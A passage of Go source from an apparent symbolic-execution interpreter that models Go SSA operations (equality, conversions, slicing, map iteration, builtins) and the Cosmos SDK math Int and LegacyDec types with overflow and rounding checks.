			x, xo := a.(*big.Int)
			y, yo := b.(*big.Int)
			if xo && yo {
				r := new(big.Int)
				switch op {
				case token.AND:
					r.And(x, y)
				case token.OR:
					r.Or(x, y)
				case token.XOR:
					r.Xor(x, y)
				case token.AND_NOT:
					r.AndNot(x, y)
				}
				return it.normInt(r, resT)
			}
			if op == token.AND && yo && nonNeg(a) {
				// x & (2^k-1)
				m := new(big.Int).Add(y, big.NewInt(1))
				if m.BitLen() > 0 && new(big.Int).And(m, y).Sign() == 0 {
					return mkModE(a, m)
				}
			}
			panic(unsupported("bitwise op on symbolic operand at " + it.where()))
		}
	}
	if bt != nil && bt.Info()&types.IsFloat != 0 {
		x, y := a.(float64), b.(float64)
		switch op {
		case token.ADD:
			return x + y
		case token.SUB:
			return x - y
		case token.MUL:
			return x * y
		case token.QUO:
			return x / y
		case token.EQL:
			return x == y
		case token.NEQ:
			return x != y
		case token.LSS:
			return x < y
		case token.LEQ:
			return x <= y
		case token.GTR:
			return x > y
		case token.GEQ:
			return x >= y
		}
	}
	if bt != nil && bt.Info()&types.IsString != 0 {
		x, xo := a.(string)
		y, yo := b.(string)
		if !xo || !yo {
			panic(unsupported(fmt.Sprintf("string op on %T,%T at %s", a, b, it.where())))
		}
		switch op {
		case token.ADD:
			return x + y
		case token.EQL:
			it.checkSymString(x, y)
			return x == y
		case token.NEQ:
			it.checkSymString(x, y)
			return x != y
		case token.LSS:
			return x < y
		case token.LEQ:
			return x <= y
		case token.GTR:
			return x > y
		case token.GEQ:
			return x >= y
		}
	}
	if bt != nil && bt.Info()&types.IsBoolean != 0 {
		switch op {
		case token.EQL:
			return mkBoolEq(a, b)
		case token.NEQ:
			return mkNot(mkBoolEq(a, b))
		case token.AND:
			return mkAnd(a, b)
		case token.OR:
			return mkOr(a, b)
		}
	}
	switch op {
	case token.EQL:
		return it.equal(a, b)
	case token.NEQ:
		return mkNot(it.equal(a, b))
	}
	panic(unsupported(fmt.Sprintf("binop %s on %T,%T (%s)", op, a, b, opndT)))
}

const symStrMark = "\x00SYM"

func (it *Interp) checkSymString(x, y string) {
	if strings.Contains(x, symStrMark) || strings.Contains(y, symStrMark) {
		panic(unsupported("comparison involving the rendering of a symbolic value at " + it.where()))
	}
}

// equal implements == on non-basic operands.
func (it *Interp) equal(a, b Value) Value {
	switch x := a.(type) {
	case *Ptr:
		if y, ok := b.(*Ptr); ok {
			return ptrEq(x, y)
		}
	case *StructV:
		y := b.(*StructV)
		var cs []Value
		for i := range x.Fields {
			cs = append(cs, it.equal(x.Fields[i], y.Fields[i]))
		}
		return mkAnd(cs...)
	case *ArrayV:
		y := b.(*ArrayV)
		var cs []Value
		for i := range x.Elems {
			cs = append(cs, it.equal(x.Elems[i], y.Elems[i]))
		}
		return mkAnd(cs...)
	case *big.Int, *Sym:
		if _, ok := a.(*Sym); ok && a.(*Sym).S == SBool {
			return mkBoolEq(a, b)
		}
		if _, ok := b.(bool); ok {
			return mkBoolEq(a, b)
		}
		return mkCmp("=", a, b)
	case bool:
		return mkBoolEq(a, b)
	case string:
		if y, ok := b.(string); ok {
			it.checkSymString(x, y)
			return x == y
		}
		return false
	case float64:
		return x == b.(float64)
	case *IfaceV:
		switch y := b.(type) {
		case *IfaceV:
			if x == nil || y == nil {
				return x == nil && y == nil
			}
			if !types.Identical(x.T, y.T) {
				return false
			}
			return it.equal(x.V, y.V)
		case *ErrV:
			return false
		case nil:
			return x == nil
		}
	case *ErrV:
		switch y := b.(type) {
		case *ErrV:
			if x == nil || y == nil {
				return x == nil && y == nil
			}
			return x == y || (x.Root == y.Root && x.Msg == y.Msg)
		case *IfaceV:
			if y == nil {
				return x == nil
			}
			return false
		case nil:
			return x == nil
		}
	case nil:
		switch y := b.(type) {
		case nil:
			return true
		case *IfaceV:
			return y == nil
		case *ErrV:
			return y == nil
		}
	case *SliceV:
		// only comparison with nil is legal
		y, ok := b.(*SliceV)
		if ok {
			if y.Arr == nil && y.Len == 0 {
				return x.Arr == nil
			}
			if x.Arr == nil && x.Len == 0 {
				return y.Arr == nil
			}
		}
		if _, ok := b.(*CoinsV); ok {
			return x.Arr == nil && false
		}
	case *CoinsV:
		if y, ok := b.(*SliceV); ok && y.Arr == nil {
			return false // theory coins are never nil
		}
	case *BlobV:
		if y, ok := b.(*SliceV); ok && y.Arr == nil {
			return false
		}
	case *MapV:
		y := b.(*MapV)
		return x == y
	case *FuncV:
		y := b.(*FuncV)
		if x == nil || y == nil {
			return x == nil && y == nil
		}
	case IntV:
		// pointer identity of the underlying *big.Int: decidable when one side is the zero value
		if y, ok := b.(IntV); ok && (x.Nil || y.Nil) {
			return x.Nil && y.Nil
		}
		panic(unsupported("== on math.Int"))
	case DecV:
		if y, ok := b.(DecV); ok && (x.Nil || y.Nil) {
			return x.Nil && y.Nil
		}
		panic(unsupported("== on two non-nil math.LegacyDec (pointer identity)"))
	case TimeV:
		y := b.(TimeV)
		return mkCmp("=", x.NS, y.NS)
	}
	panic(unsupported(fmt.Sprintf("equality of %T and %T at %s", a, b, it.where())))
}

func (it *Interp) changeType(v Value, from, to types.Type) Value {
	// Coins theory value converted to a plain []Coin: materialise
	if cv, ok := v.(*CoinsV); ok {
		if !isCoinsType(to) {
			return it.materialiseCoins(cv)
		}
	}
	if sv, ok := v.(*StructV); ok {
		n := *sv
		n.T = to
		return &n
	}
	return v
}

func (it *Interp) convert(v Value, from, to types.Type) Value {
	if p, ok := v.(PoisonV); ok {
		return p
	}
	fb, tb := basicOf(from), basicOf(to)
	if fb != nil && tb != nil {
		switch {
		case fb.Info()&types.IsInteger != 0 && tb.Info()&types.IsInteger != 0:
			return it.normInt(v, to)
		case fb.Info()&types.IsInteger != 0 && tb.Info()&types.IsFloat != 0:
			if _, ok := v.(*Sym); ok {
				// floats are not modelled; the value is only usable by no-op consumers (telemetry)
				return PoisonV{Why: "float conversion of a symbolic integer"}
			}
			f, _ := new(big.Float).SetInt(asBig(v)).Float64()
			return f
		case fb.Info()&types.IsFloat != 0 && tb.Info()&types.IsInteger != 0:
			bi, _ := big.NewFloat(v.(float64)).Int(nil)
			return it.normInt(bi, to)
		case fb.Info()&types.IsFloat != 0 && tb.Info()&types.IsFloat != 0:
			return v
		case fb.Info()&types.IsString != 0 && tb.Info()&types.IsString != 0:
			return v
		case fb.Info()&types.IsInteger != 0 && tb.Info()&types.IsString != 0:
			return string(rune(asBig(v).Int64()))
		}
	}
	// string <-> []byte / []rune
	if fb != nil && fb.Info()&types.IsString != 0 {
		if sl, ok := to.Underlying().(*types.Slice); ok {
			s, ok := v.(string)
			if !ok {
				panic(unsupported(fmt.Sprintf("convert %T to slice", v)))
			}
			eb := basicOf(sl.Elem())
			if eb != nil && eb.Kind() == types.Uint8 || eb.Kind() == types.Byte {
				arr := &ArrayV{Elems: make([]Value, len(s))}
				for i := 0; i < len(s); i++ {
					arr.Elems[i] = big.NewInt(int64(s[i]))
				}
				return &SliceV{Arr: it.newCell(arr, "str2bytes"), Len: len(s), Cap: len(s)}
			}
			rs := []rune(s)
			arr := &ArrayV{Elems: make([]Value, len(rs))}
			for i := range rs {
				arr.Elems[i] = big.NewInt(int64(rs[i]))
			}
			return &SliceV{Arr: it.newCell(arr, "str2runes"), Len: len(rs), Cap: len(rs)}
		}
	}
	if tb != nil && tb.Info()&types.IsString != 0 {
		if _, ok := from.Underlying().(*types.Slice); ok {
			if b, ok := v.(*BlobV); ok {
				return symStrMark + b.Kind
			}
			s := v.(*SliceV)
			return string(it.bytesOf(s))
		}
	}
	if _, ok := to.Underlying().(*types.Slice); ok {
		return it.changeType(v, from, to)
	}
	if _, ok := to.Underlying().(*types.Pointer); ok {
		return v
	}
	panic(unsupported(fmt.Sprintf("convert %s -> %s", from, to)))
}

func (it *Interp) bytesOf(s *SliceV) []byte {
	out := make([]byte, s.Len)
	if s.Len == 0 {
		return out
	}
	arr := s.Arr.V.(*ArrayV)
	for i := 0; i < s.Len; i++ {
		e := arr.Elems[s.Off+i]
		b, ok := e.(*big.Int)
		if !ok {
			panic(unsupported("symbolic byte in byte slice"))
		}
		out[i] = byte(b.Uint64())
	}
	return out
}

func (it *Interp) mkBytes(b []byte) *SliceV {
	arr := &ArrayV{Elems: make([]Value, len(b))}
	for i := range b {
		arr.Elems[i] = big.NewInt(int64(b[i]))
	}
	return &SliceV{Arr: it.newCell(arr, "bytes"), Len: len(b), Cap: len(b)}
}

func (it *Interp) index(fr *Frame, x *ssa.Index) Value {
	v := it.get(fr, x.X)
	it.checkPoison(v)
	i := it.concInt(it.get(fr, x.Index), "index")
	switch a := v.(type) {
	case *ArrayV:
		if i < 0 || i >= len(a.Elems) {
			panic(&GoPanic{Msg: "runtime error: index out of range"})
		}
		return a.Elems[i]
	case string:
		if i < 0 || i >= len(a) {
			panic(&GoPanic{Msg: "runtime error: index out of range"})
		}
		return big.NewInt(int64(a[i]))
	}
	panic(unsupported(fmt.Sprintf("index of %T", v)))
}

func (it *Interp) asSlice(v Value) *SliceV {
	switch s := v.(type) {
	case *SliceV:
		return s
	case *CoinsV:
		return it.materialiseCoins(s)
	case *DecCoinsV:
		return it.materialiseDecCoins(s)
	}
	it.checkPoison(v)
	panic(unsupported(fmt.Sprintf("expected slice, got %T at %s", v, it.where())))
}

func (it *Interp) indexAddr(fr *Frame, x *ssa.IndexAddr) Value {
	v := it.get(fr, x.X)
	it.checkPoison(v)
	iv := it.get(fr, x.Index)
	if p, ok := v.(*Ptr); ok {
		if p == nil {
			it.nilDeref()
		}
		i := it.concInt(iv, "array index")
		n := int(x.X.Type().Underlying().(*types.Pointer).Elem().Underlying().(*types.Array).Len())
		if i < 0 || i >= n {
			panic(&GoPanic{Msg: "runtime error: index out of range"})
		}
		return &Ptr{C: p.C, Path: append(append([]int{}, p.Path...), i)}
	}
	s := it.asSlice(v)
	if s != v {
		// materialised theory value: remember so that later uses of the same SSA value see the slice
		fr.env[x.X] = s
	}
	i := it.concInt(iv, "slice index at "+it.where())
	if i < 0 || i >= s.Len {
		panic(&GoPanic{Msg: fmt.Sprintf("runtime error: index out of range [%d] with length %d", i, s.Len)})
	}
	return &Ptr{C: s.Arr, Path: []int{s.Off + i}}
}

func (it *Interp) sliceOp(fr *Frame, x *ssa.Slice) Value {
	v := it.get(fr, x.X)
	it.checkPoison(v)
	optInt := func(e ssa.Value, def int) int {
		if e == nil {
			return def
		}
		return it.concInt(it.get(fr, e), "slice bound")
	}
	switch s := v.(type) {
	case string:
		lo := optInt(x.Low, 0)
		hi := optInt(x.High, len(s))
		if lo < 0 || hi > len(s) || lo > hi {
			panic(&GoPanic{Msg: "runtime error: slice bounds out of range"})
		}
		return s[lo:hi]
	case *Ptr:
		if s == nil {
			it.nilDeref()
		}
		arr, ok := it.load(s).(*ArrayV)
		if !ok {
			panic(unsupported("slice of pointer to non-array"))
		}
		n := len(arr.Elems)
		lo := optInt(x.Low, 0)
		hi := optInt(x.High, n)
		mx := optInt(x.Max, n)
		if lo < 0 || hi > n || lo > hi || mx > n || hi > mx {
			panic(&GoPanic{Msg: "runtime error: slice bounds out of range"})
		}
		if len(s.Path) != 0 {
			// array embedded in a struct: slices alias it; model by a view cell (copy) - flag if written later
			c := it.newCell(arr, "arrayview")
			return &SliceV{Arr: c, Off: lo, Len: hi - lo, Cap: mx - lo}
		}
		return &SliceV{Arr: s.C, Off: lo, Len: hi - lo, Cap: mx - lo}
	}
	if b, ok := v.(*BlobV); ok {
		if x.Low == nil && x.High == nil {
			return b
		}
		panic(unsupported("slicing a typed blob"))
	}
	s := it.asSlice(v)
	lo := optInt(x.Low, 0)
	hi := optInt(x.High, s.Len)
	mx := optInt(x.Max, s.Cap)
	if lo < 0 || hi > s.Cap || lo > hi || mx > s.Cap || hi > mx {
		panic(&GoPanic{Msg: fmt.Sprintf("runtime error: slice bounds out of range [%d:%d] with capacity %d", lo, hi, s.Cap)})
	}
	if s.Arr == nil {
		return &SliceV{}
	}
	return &SliceV{Arr: s.Arr, Off: s.Off + lo, Len: hi - lo, Cap: mx - lo}
}

func (it *Interp) lookup(fr *Frame, x *ssa.Lookup) Value {
	m := it.get(fr, x.X)
	it.checkPoison(m)
	k := it.get(fr, x.Index)
	if s, ok := m.(string); ok {
		i := it.concInt(k, "string index")
		if i < 0 || i >= len(s) {
			panic(&GoPanic{Msg: "runtime error: index out of range"})
		}
		return big.NewInt(int64(s[i]))
	}
	mv := m.(*MapV)
	elemT := x.X.Type().Underlying().(*types.Map).Elem()
	var val Value
	found := false
	if mv != nil {
		if e, ok := mv.M[keyString(k)]; ok {
			val, found = copyVal(e.V), true
		}
	}
	if !found {
		val = it.zero(elemT)
	}
	if x.CommaOk {
		return Tuple{val, found}
	}
	return val
}

// iterators -------------------------------------------------------------------

type iterV struct {
	mapv  *MapV
	keys  []string
	pos   int
	str   []rune
	strIx []int
	isStr bool
	kT, vT types.Type
}

func (it *Interp) rangeOp(fr *Frame, x *ssa.Range) Value {
	v := it.get(fr, x.X)
	it.checkPoison(v)
	if s, ok := v.(string); ok {
		iter := &iterV{isStr: true}
		for i, r := range s {
			iter.str = append(iter.str, r)
			iter.strIx = append(iter.strIx, i)
		}
		return iter
	}
	mv := v.(*MapV)
	iter := &iterV{mapv: mv}
	if mv != nil {
		iter.keys = append(iter.keys, mv.Keys...)
		sort.Strings(iter.keys)
	}
	mt := x.X.Type().Underlying().(*types.Map)
	iter.kT, iter.vT = mt.Key(), mt.Elem()
	return iter
}

func (iter *iterV) next(it *Interp) Value {
	if iter.isStr {
		if iter.pos >= len(iter.str) {
			return Tuple{false, big.NewInt(0), big.NewInt(0)}
		}
		i := iter.pos
		iter.pos++
		return Tuple{true, big.NewInt(int64(iter.strIx[i])), big.NewInt(int64(iter.str[i]))}
	}
	for len(iter.keys) > 0 {
		idx := 0
		if it.mapOrder && len(iter.keys) > 1 {
			// every iteration order is explored; the choice is part of the counterexample so that it can be re-executed
			tag := it.nextTag("maporder")
			if it.R.Pinned != nil {
				v, _ := it.pinned(tag)
				idx = int(bigFromDec(v).Int64())
				if idx < 0 || idx >= len(iter.keys) {
					idx = 0
				}
			} else {
				idx = it.chooseN(len(iter.keys), tag)
			}
			it.choices[tag] = fmt.Sprint(idx)
		}
		k := iter.keys[idx]
		iter.keys = append(append([]string{}, iter.keys[:idx]...), iter.keys[idx+1:]...)
		e, ok := iter.mapv.M[k]
		if !ok {
			continue // deleted during iteration
		}
		return Tuple{true, e.K, copyVal(e.V)}
	}
	return Tuple{false, it.zero(iter.kT), it.zero(iter.vT)}
}

// type assertions ---------------------------------------------------------------

func (it *Interp) dynType(v Value) types.Type {
	switch x := v.(type) {
	case *IfaceV:
		if x == nil {
			return nil
		}
		return x.T
	}
	return nil
}

func (it *Interp) typeAssert(fr *Frame, x *ssa.TypeAssert) Value {
	v := it.get(fr, x.X)
	it.checkPoison(v)
	ok := false
	var res Value
	switch iv := v.(type) {
	case *IfaceV:
		if iv != nil {
			if types.IsInterface(x.AssertedType) {
				ok = it.implements(iv.T, x.AssertedType)
				res = iv
			} else {
				ok = types.Identical(iv.T, x.AssertedType)
				res = iv.V
			}
		}
	case *ErrV:
		if iv != nil && types.IsInterface(x.AssertedType) {
			it0 := x.AssertedType.Underlying().(*types.Interface)
			ok = it0.NumMethods() == 0 || (it0.NumMethods() == 1 && it0.Method(0).Name() == "Error")
			res = iv
		}
	case nil:
	default:
		panic(unsupported(fmt.Sprintf("type assert on %T", v)))
	}
	if x.CommaOk {
		if !ok {
			if types.IsInterface(x.AssertedType) {
				res = (*IfaceV)(nil)
			} else {
				res = it.zero(x.AssertedType)
			}
		}
		return Tuple{res, ok}
	}
	if !ok {
		panic(&GoPanic{Msg: fmt.Sprintf("interface conversion: %v is not %s", it.dynType(v), x.AssertedType)})
	}
	return res
}

func (it *Interp) implements(t types.Type, iface types.Type) bool {
	i := iface.Underlying().(*types.Interface)
	return types.Implements(t, i)
}

// calls -----------------------------------------------------------------------------

func (it *Interp) doCall(fr *Frame, site ssa.CallInstruction, c *ssa.CallCommon) Value {
	fn, args, bind := it.prepareCall(fr, c)
	return it.invoke(fn, args, bind, site)
}

type callee struct {
	fn      *ssa.Function
	builtin string
	native  func(it *Interp, args []Value) Value
}

func (it *Interp) prepareCall(fr *Frame, c *ssa.CallCommon) (callee, []Value, []Value) {
	var args []Value
	if c.IsInvoke() {
		recv := it.get(fr, c.Value)
		it.checkPoison(recv)
		for _, a := range c.Args {
			args = append(args, it.get(fr, a))
		}
		return it.resolveMethod(recv, c.Method, args)
	}
	for _, a := range c.Args {
		args = append(args, it.get(fr, a))
	}
	switch f := c.Value.(type) {
	case *ssa.Function:
		return callee{fn: f}, args, nil
	case *ssa.Builtin:
		return callee{builtin: f.Name()}, args, nil
	}
	fv := it.get(fr, c.Value)
	it.checkPoison(fv)
	f, ok := fv.(*FuncV)
	if !ok || f == nil {
		if ok {
			it.nilDeref()
		}
		panic(unsupported(fmt.Sprintf("call of %T", fv)))
	}
	if f.Native != nil {
		return callee{native: f.Native}, args, nil
	}
	return callee{fn: f.Fn}, args, f.Bindings
}

func (it *Interp) resolveMethod(recv Value, m *types.Func, args []Value) (callee, []Value, []Value) {
	switch r := recv.(type) {
	case *IfaceV:
		if r == nil {
			it.nilDeref()
		}
		fn := it.P.Prog.LookupMethod(r.T, m.Pkg(), m.Name())
		if fn == nil {
			panic(unsupported(fmt.Sprintf("method %s not found on %s", m.Name(), r.T)))
		}
		return callee{fn: fn}, append([]Value{r.V}, args...), nil
	case *NativeObj:
		if h, ok := r.Methods[m.Name()]; ok {
			return callee{native: h}, args, nil
		}
		res := m.Type().(*types.Signature).Results()
		return callee{native: func(it *Interp, a []Value) Value {
			if res.Len() == 0 {
				return nil
			}
			if res.Len() == 1 {
				return it.zero(res.At(0).Type())
			}
			return it.zero(res)
		}}, args, nil
	case *ErrV:
		if r == nil {
			it.nilDeref()
		}
		switch m.Name() {
		case "Error":
			return callee{native: func(it *Interp, a []Value) Value { return r.Root + ": " + r.Msg }}, nil, nil
		case "Unwrap":
			return callee{native: func(it *Interp, a []Value) Value { return (*ErrV)(nil) }}, nil, nil
		}
		panic(unsupported("method " + m.Name() + " on engine error value"))
	case nil:
		it.nilDeref()
	}
	panic(unsupported(fmt.Sprintf("invoke %s on %T", m.Name(), recv)))
}

func (it *Interp) invoke(c callee, args []Value, bind []Value, site ssa.CallInstruction) Value {
	switch {
	case c.native != nil:
		return c.native(it, args)
	case c.builtin != "":
		return it.builtin(c.builtin, args, site)
	}
	return it.callFunction(c.fn, args, bind, site)
}

// CallValue calls a function value (closure) from intrinsics.
func (it *Interp) CallValue(f Value, args ...Value) Value {
	fv, ok := f.(*FuncV)
	if !ok || fv == nil {
		panic(unsupported(fmt.Sprintf("CallValue on %T", f)))
	}
	if fv.Native != nil {
		return fv.Native(it, args)
	}
	return it.callFunction(fv.Fn, args, fv.Bindings, nil)
}

func (it *Interp) doDefer(fr *Frame, d *ssa.Defer) {
	c, args, bind := it.prepareCall(fr, &d.Call)
	fr.defers = append(fr.defers, func() { it.invoke(c, args, bind, d) })
}

func (it *Interp) builtin(name string, args []Value, site ssa.CallInstruction) Value {
	switch name {
	case "len":
		it.checkPoison(args[0])
		switch x := args[0].(type) {
		case string:
			if strings.Contains(x, symStrMark) {
				panic(unsupported("len of symbolic rendering"))
			}
			return big.NewInt(int64(len(x)))
		case *SliceV:
			return big.NewInt(int64(x.Len))
		case *MapV:
			if x == nil {
				return big.NewInt(0)
			}
			return big.NewInt(int64(len(x.M)))
		case *ArrayV:
			return big.NewInt(int64(len(x.Elems)))
		case *CoinsV:
			s := it.materialiseCoins(x)
			return big.NewInt(int64(s.Len))
		case *DecCoinsV:
			s := it.materialiseDecCoins(x)
			return big.NewInt(int64(s.Len))
		case *BlobV:
			return it.blobLen(x)
		case *Ptr:
			arr := it.load(x).(*ArrayV)
			return big.NewInt(int64(len(arr.Elems)))
		}
	case "cap":
		switch x := args[0].(type) {
		case *SliceV:
			return big.NewInt(int64(x.Cap))
		case *ArrayV:
			return big.NewInt(int64(len(x.Elems)))
		}
	case "append":
		return it.appendOp(args[0], args[1], site)
	case "copy":
		dst := it.asSlice(args[0])
		var src *SliceV
		if s, ok := args[1].(string); ok {
			src = it.mkBytes([]byte(s))
		} else {
			src = it.asSlice(args[1])
		}
		n := min(dst.Len, src.Len)
		if n > 0 {
			tmp := make([]Value, n)
			copy(tmp, src.Arr.V.(*ArrayV).Elems[src.Off:src.Off+n])
			for i := 0; i < n; i++ {
				dst.Arr.V.(*ArrayV).Elems[dst.Off+i] = copyVal(tmp[i])
			}
		}
		return big.NewInt(int64(n))
	case "delete":
		mv := args[0].(*MapV)
		if mv != nil {
			ks := keyString(args[1])
			if _, ok := mv.M[ks]; ok {
				delete(mv.M, ks)
				for i, k := range mv.Keys {
					if k == ks {
						mv.Keys = append(append([]string{}, mv.Keys[:i]...), mv.Keys[i+1:]...)
						break
					}
				}
			}
		}
		return nil
	case "print", "println":
		return nil
	case "ssa:deferstack":
		return nil
	case "ssa:wrapnilchk":
		if p, ok := args[0].(*Ptr); ok && p == nil {
			panic(&GoPanic{Msg: "value method called using nil pointer"})
		}
		return args[0]
	case "recover":
		if it.recoverFr != nil && it.recoverFr.panicking != nil {
			p := it.recoverFr.panicking
			it.recoverFr.panicking = nil
			if p.V != nil {
				if _, ok := p.V.(*IfaceV); ok {
					return p.V
				}
				if _, ok := p.V.(*ErrV); ok {
					return p.V
				}
			}
			return &ErrV{Root: "runtime", Msg: p.Msg}
		}
		return (*IfaceV)(nil)
	case "min", "max":
		r := args[0]
		for _, a := range args[1:] {
			if name == "min" {
				r = mkMin(r, a)
			} else {
				r = mkMax(r, a)
			}
		}
		return r
	case "clear":
		if mv, ok := args[0].(*MapV); ok && mv != nil {
			mv.M = map[string]*mapEntry{}
			mv.Keys = nil
		}
		return nil
	}
	if len(args) == 0 {
		panic(unsupported("builtin " + name + "()"))
	}
	panic(unsupported(fmt.Sprintf("builtin %s(%T)", name, args[0])))
}

func (it *Interp) appendOp(a, b Value, site ssa.CallInstruction) Value {
	it.checkPoison(a)
	it.checkPoison(b)
	s := it.asSlice(a)
	var add []Value
	switch x := b.(type) {
	case string:
		for i := 0; i < len(x); i++ {
			add = append(add, big.NewInt(int64(x[i])))
		}
	default:
		bs := it.asSlice(b)
		if bs.Len > 0 {
			for _, e := range bs.Arr.V.(*ArrayV).Elems[bs.Off : bs.Off+bs.Len] {
				add = append(add, copyVal(e))
			}
		}
	}
	if len(add) == 0 {
		return s
	}
	if s.Arr != nil && s.Len+len(add) <= s.Cap {
		arr := s.Arr.V.(*ArrayV)
		for i, e := range add {
			arr.Elems[s.Off+s.Len+i] = e
		}
		return &SliceV{Arr: s.Arr, Off: s.Off, Len: s.Len + len(add), Cap: s.Cap}
	}
	need := s.Len + len(add)
	ncap := max(need, 2*s.Cap)
	arr := &ArrayV{Elems: make([]Value, ncap)}
	if s.Len > 0 {
		for i, e := range s.Arr.V.(*ArrayV).Elems[s.Off : s.Off+s.Len] {
			arr.Elems[i] = copyVal(e)
		}
	}
	for i, e := range add {
		arr.Elems[s.Len+i] = e
	}
	// zero fill
	var elemT types.Type
	if site != nil {
		if v, ok := site.(ssa.Value); ok {
			if st, ok := v.Type().Underlying().(*types.Slice); ok {
				elemT = st.Elem()
			}
		}
	}
	for i := need; i < ncap; i++ {
		if elemT != nil {
			arr.Elems[i] = it.zero(elemT)
		} else {
			arr.Elems[i] = copyVal(add[0])
		}
	}
	return &SliceV{Arr: it.newCell(arr, "append"), Len: need, Cap: ncap}
}
