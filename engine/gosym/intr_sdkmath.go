package gosym

import (
	"fmt"
	"os"
	"math/big"
	"strings"
)

var (
	maxInt256  = pow2(256) // |v| < 2^256  <=> BitLen <= 256
	maxDec315  = pow2(315)
	i64lo      = new(big.Int).Neg(pow2(63))
	i64hi      = new(big.Int).Sub(pow2(63), big.NewInt(1))
	u64hi      = new(big.Int).Sub(pow2(64), big.NewInt(1))
	pow10_36   = new(big.Int).Mul(pow10_18, pow10_18)
	half10_18  = new(big.Int).Quo(pow10_18, big.NewInt(2))
)

// intVal reads the current value of an Int (through the shared *big.Int once BigIntMut handed it out).
func (it *Interp) intVal(x IntV) Value {
	if x.box != nil && x.box.mut != nil {
		return it.bigVal(x.box.mut)
	}
	return x.V
}

func (it *Interp) intArg(v Value) Value {
	it.checkPoison(v)
	switch x := v.(type) {
	case IntV:
		if x.Nil {
			it.nilDeref()
		}
		return it.intVal(x)
	case *Ptr:
		return it.intArg(it.load(x))
	}
	panic(unsupported(fmt.Sprintf("expected math.Int, got %T at %s", v, it.where())))
}

func (it *Interp) decArg(v Value) Value {
	it.checkPoison(v)
	switch x := v.(type) {
	case DecV:
		if x.Nil {
			it.nilDeref()
		}
		return x.V
	case *Ptr:
		return it.decArg(it.load(x))
	}
	panic(unsupported(fmt.Sprintf("expected LegacyDec, got %T at %s", v, it.where())))
}

// overflowCheck panics (Go-level) when |v| >= limit is reachable, unless the bit tracker excludes it.
func (it *Interp) overflowCheck(v Value, limit *big.Int, limitBits int, msg string) Value {
	if b, ok := v.(*big.Int); ok {
		if new(big.Int).Abs(b).Cmp(limit) >= 0 {
			panic(&GoPanic{Msg: msg})
		}
		return v
	}
	s := v.(*Sym)
	if absBelow(s, limit) {
		return v
	}
	n := it.nameTerm(s)
	if os.Getenv("VERIF_DEBUG") != "" {
		fmt.Fprintf(os.Stderr, "overflowCheck needs solver at %s: lo=%v hi=%v term=%.200s\n", it.where(), s.Lo, s.Hi, s.T)
	}
	it.panicIf(mkOr(mkCmp(">=", n, limit), mkCmp("<=", n, new(big.Int).Neg(limit))), msg)
	lim1 := new(big.Int).Sub(limit, big.NewInt(1))
	return withRange(n, new(big.Int).Neg(lim1), lim1)
}

func (it *Interp) mkIntV(v Value) IntV {
	return nIntV(it.overflowCheck(v, maxInt256, 256, "Int overflow"))
}

func (it *Interp) mkDecV(v Value) DecV {
	return DecV{V: it.overflowCheck(v, maxDec315, 315, "Int overflow")}
}

// chopRange bounds v / 10^18 under any rounding mode.
func chopRange(v Value) (lo, hi *big.Int) {
	l, h := rng(v)
	if l != nil {
		lo = new(big.Int).Sub(new(big.Int).Div(l, pow10_18), big.NewInt(1))
		if l.Sign() >= 0 {
			lo = new(big.Int).Div(l, pow10_18)
		}
	}
	if h != nil {
		hi = new(big.Int).Add(new(big.Int).Div(h, pow10_18), big.NewInt(1))
	}
	return
}

func chopRound(v Value) Value {
	if b, ok := v.(*big.Int); ok {
		neg := b.Sign() < 0
		x := new(big.Int).Abs(b)
		q, r := new(big.Int).QuoRem(x, pow10_18, new(big.Int))
		switch r.Cmp(half10_18) {
		case 1:
			q.Add(q, big.NewInt(1))
		case 0:
			if q.Bit(0) == 1 {
				q.Add(q, big.NewInt(1))
			}
		}
		if neg {
			q.Neg(q)
		}
		return q
	}
	lo, hi := chopRange(v)
	if nonNeg(v) {
		return symI("(chopRoundPos "+T(v)+")", lo, hi)
	}
	return symI("(chopRound "+T(v)+")", lo, hi)
}

func chopTrunc(v Value) Value {
	if b, ok := v.(*big.Int); ok {
		return new(big.Int).Quo(b, pow10_18)
	}
	lo, hi := chopRange(v)
	if nonNeg(v) {
		return symI("(div "+T(v)+" 1000000000000000000)", lo, hi)
	}
	return symI("(chopTrunc "+T(v)+")", lo, hi)
}

func chopRoundUp(v Value) Value {
	if b, ok := v.(*big.Int); ok {
		if b.Sign() < 0 {
			return new(big.Int).Quo(b, pow10_18)
		}
		q, r := new(big.Int).QuoRem(b, pow10_18, new(big.Int))
		if r.Sign() != 0 {
			q.Add(q, big.NewInt(1))
		}
		return q
	}
	lo, hi := chopRange(v)
	return symI("(chopRoundUp "+T(v)+")", lo, hi)
}

func registerSdkMath(P *Program) {
	const M = "cosmossdk.io/math."
	const I = "(cosmossdk.io/math.Int)."
	const IP = "(*cosmossdk.io/math.Int)."
	const D = "(cosmossdk.io/math.LegacyDec)."
	const DP = "(*cosmossdk.io/math.LegacyDec)."

	P.reg(M+"NewInt", func(it *Interp, a []Value) Value { return nIntV(a[0]) })
	P.reg(M+"NewIntFromUint64", func(it *Interp, a []Value) Value { return nIntV(a[0]) })
	P.reg(M+"ZeroInt", func(it *Interp, a []Value) Value { return nIntV(big.NewInt(0)) })
	P.reg(M+"OneInt", func(it *Interp, a []Value) Value { return nIntV(big.NewInt(1)) })
	fromBig := func(it *Interp, a []Value) Value {
		p := a[0].(*Ptr)
		if p == nil {
			return IntV{Nil: true, V: big.NewInt(0)}
		}
		v := it.bigVal(a[0])
		return nIntV(it.overflowCheck(v, maxInt256, 256, "NewIntFromBigInt() out of bound"))
	}
	P.reg(M+"NewIntFromBigInt", fromBig)
	P.reg(M+"NewIntFromBigIntMut", func(it *Interp, a []Value) Value {
		p := a[0].(*Ptr)
		if p == nil {
			return IntV{Nil: true, V: big.NewInt(0)}
		}
		v := it.bigVal(a[0])
		return IntV{V: it.overflowCheck(v, maxInt256, 256, "NewIntFromBigInt() out of bound"), box: &intBox{mut: p}}
	})
	P.reg(M+"NewIntFromString", func(it *Interp, a []Value) Value {
		switch s := a[0].(type) {
		case string:
			b, ok := new(big.Int).SetString(s, 10)
			if !ok || b.BitLen() > 256 {
				return Tuple{IntV{Nil: true, V: big.NewInt(0)}, false}
			}
			return Tuple{nIntV(b), true}
		case SymStr:
			return Tuple{nIntV(s.V), true}
		}
		panic(unsupported("NewIntFromString"))
	})
	P.reg(M+"NewIntWithDecimal", func(it *Interp, a []Value) Value {
		dec := int(asBig(a[1]).Int64())
		if dec < 0 {
			panic(&GoPanic{Msg: "NewIntWithDecimal() decimal is negative"})
		}
		e := new(big.Int).Exp(big.NewInt(10), big.NewInt(int64(dec)), nil)
		return it.mkIntV(mkMul(a[0], e))
	})
